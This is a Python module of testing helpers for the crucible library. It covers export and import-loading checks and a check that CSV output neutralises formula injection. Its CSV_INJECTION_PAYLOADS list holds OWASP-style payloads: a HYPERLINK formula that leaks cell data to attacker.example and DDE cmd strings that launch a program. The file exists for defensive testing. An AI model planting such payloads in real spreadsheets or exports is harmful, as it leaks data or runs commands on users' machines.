"""Helpers for crucible's own tests and for users testing code built on crucible."""

from __future__ import annotations

import ast
import importlib
import importlib.util
import inspect
import subprocess
import sys
import types
from collections.abc import Iterable

__all__ = (
    "CSV_INJECTION_PAYLOADS",
    "NOT_AT_IMPORT",
    "check_csv_inert",
    "check_exports",
    "imported_modules",
    "loaded_modules",
)

CSV_INJECTION_PAYLOADS: tuple[str, ...] = (
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for results")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
)
"""Cell texts a spreadsheet runs as formulas (OWASP's CSV injection examples, one per prefix)."""

CSV_INERT_TEXTS: tuple[str, ...] = ("-1.5", "+3", "1e-5", "a=b", "plain text", "")
"""Texts that must come back unchanged: plain numbers and text not starting a formula."""


def check_csv_inert(cells: Iterable[str], *, sent: Iterable[str]) -> None:
    """Assert that CSV cells read back (with the csv module) are the texts `sent`, made inert.

    Each payload of [`CSV_INJECTION_PAYLOADS`][crucible_core.testing.CSV_INJECTION_PAYLOADS] must
    come back with a leading `'` and otherwise unchanged; every other text exactly as sent.
    """
    for got, text in zip(cells, sent, strict=True):
        if text in CSV_INJECTION_PAYLOADS:
            assert got == "'" + text, f"{text!r} was written as {got!r}, not made inert"
        else:
            assert got == text, f"{text!r} was written as {got!r}"


NOT_AT_IMPORT: tuple[str, ...] = (
    "aiohttp",
    "pyarrow",
    "polars",
    "jinja2",
    "scipy",
    "importlib.metadata",
)
"""Modules no crucible package loads at import: pass them (and more) as `check_exports(forbidden=)`.

Heavy or optional libraries are imported where they are used, and `__version__` is a
`_version.py`, not the installed metadata (`importlib.metadata` costs ~40 ms).
"""


def loaded_modules(statement: str) -> set[str]:
    """Every module (full dotted names) loaded by running `statement` in a fresh interpreter."""
    code = f"import sys\n{statement}\nprint('\\n'.join(sorted(sys.modules)))"
    out = subprocess.run(
        [sys.executable, "-c", code],
        capture_output=True,
        text=True,
        check=True,
        timeout=120,
    )
    return set(out.stdout.split())


def imported_modules(statement: str) -> set[str]:
    """Top-level module names loaded by running `statement` in a fresh interpreter."""
    return {name.split(".")[0] for name in loaded_modules(statement)}


def check_exports(module: str, *, forbidden: Iterable[str] = ()) -> None:
    """Assert that `module`'s public surface is sound.

    Every `__all__` name resolves and is in `dir(module)`; `__all__` has no duplicates or private
    names; every `__all__` name is visible to type checkers (bound at the top of the module or
    imported under `if TYPE_CHECKING:`), and a name imported only for type checkers (served by a
    lazy `__getattr__`) is the very object that import names; no public object comes from a
    `_internal` module under another name; and importing `module` in a fresh interpreter loads
    none of the `forbidden` modules: a name such as `"importlib.metadata"` or `"scipy"` forbids
    that module and its submodules.
    """
    mod = importlib.import_module(module)
    names = list(mod.__all__)
    assert len(names) == len(set(names)), f"duplicate names in {module}.__all__"
    bound, typed = _static_names(mod)
    listed = set(dir(mod))
    for name in names:
        assert hasattr(mod, name), (
            f"{module}.__all__ names {name!r}, which does not resolve"
        )
        assert not name.startswith("_") or name == "__version__", (
            f"private name {name!r} exported"
        )
        assert name in listed, f"dir({module}) lacks {name!r}"
        assert name in bound or name in typed, (
            f"{module}.{name} is invisible to type checkers: import it under `if TYPE_CHECKING:`"
        )
        if name in typed and name not in bound:
            source, original = typed[name]
            expected = importlib.import_module(source)
            if original:
                expected = getattr(expected, original)
            assert getattr(mod, name) is expected, (
                f"{module}.{name} is not {source}.{original}, which type checkers see"
            )
    public = {n for n in dir(mod) if not n.startswith("_")}
    stray = {
        n
        for n in public - set(names)
        if getattr(getattr(mod, n), "__module__", "").startswith(f"{module}._")
        and not isinstance(getattr(mod, n), type(mod))
    }
    assert not stray, f"{module} leaks private objects not in __all__: {sorted(stray)}"
    loaded = loaded_modules(f"import {module}")
    bad = sorted(
        name
        for name in set(forbidden)
        if name in loaded or any(m.startswith(f"{name}.") for m in loaded)
    )
    assert not bad, f"`import {module}` loads {bad}; import them where they are used"


def _static_names(mod: types.ModuleType) -> tuple[set[str], dict[str, tuple[str, str]]]:
    """Names the module binds at its top level, and those imported under `if TYPE_CHECKING:`.

    The second maps each name to (module, name) of its import; name `""` for `import m as name`.
    """
    try:
        tree = ast.parse(inspect.getsource(mod))
    except (OSError, TypeError):  # no source (a compiled module): trust what it binds
        return set(vars(mod)), {}
    bound: set[str] = set()
    typed: dict[str, tuple[str, str]] = {}
    for node in tree.body:
        if isinstance(node, ast.If) and _is_type_checking(node.test):
            for inner in ast.walk(node):
                if isinstance(inner, ast.ImportFrom):
                    source = _source(inner, mod.__name__)
                    for alias in inner.names:
                        typed[alias.asname or alias.name] = (source, alias.name)
                elif isinstance(inner, ast.Import):  # the module itself: name ""
                    for alias in inner.names:
                        typed[alias.asname or alias.name] = (alias.name, "")
                elif isinstance(inner, ast.AnnAssign | ast.Assign):
                    bound |= _targets(inner)
            continue
        if isinstance(node, ast.ImportFrom) and node.names[0].name == "*":
            star = importlib.import_module(_source(node, mod.__name__))
            bound |= set(getattr(star, "__all__", vars(star)))
        elif isinstance(node, ast.Import | ast.ImportFrom):
            bound |= {(a.asname or a.name).split(".")[0] for a in node.names}
        elif isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef | ast.ClassDef):
            bound.add(node.name)
        elif isinstance(node, ast.Assign | ast.AnnAssign | ast.AugAssign):
            bound |= _targets(node)
        elif isinstance(node, ast.If | ast.Try):
            bound |= {  # e.g. `try: from x import y except ImportError: ...`
                n.id
                for n in ast.walk(node)
                if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)
            } | {
                (a.asname or a.name).split(".")[0]
                for n in ast.walk(node)
                if isinstance(n, ast.Import | ast.ImportFrom)
                for a in n.names
            }
    return bound, typed


def _source(node: ast.ImportFrom, package: str) -> str:
    """The absolute module name a `from ... import` reads from."""
    if not node.level:
        return node.module or ""
    return importlib.util.resolve_name("." * node.level + (node.module or ""), package)


def _is_type_checking(test: ast.expr) -> bool:
    return (isinstance(test, ast.Name) and test.id == "TYPE_CHECKING") or (
        isinstance(test, ast.Attribute) and test.attr == "TYPE_CHECKING"
    )


def _targets(node: ast.Assign | ast.AnnAssign | ast.AugAssign) -> set[str]:
    targets = node.targets if isinstance(node, ast.Assign) else [node.target]
    return {
        n.id
        for t in targets
        for n in ast.walk(t)
        if isinstance(n, ast.Name) and isinstance(n.ctx, ast.Store)
    }
